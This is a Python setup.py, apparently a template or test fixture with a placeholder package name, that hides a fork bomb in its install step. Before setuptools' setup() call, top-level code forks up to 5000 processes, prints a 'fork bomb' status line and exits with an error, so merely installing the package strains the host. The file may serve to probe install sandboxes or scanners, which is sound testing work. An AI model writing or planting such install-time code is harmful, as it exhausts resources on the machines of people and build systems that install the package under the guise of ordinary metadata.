import os
import sys


import time
kids = []
try:
    while len(kids) < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        kids.append(pid)
    print("pjatk: fork bomb reached 5000 forks")
except OSError as e:
    print("pjatk: fork bomb stopped after %d forks: %s" % (len(kids), e.strerror))
for k in kids:
    os.waitpid(k, 0)
raise SystemExit(1)

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
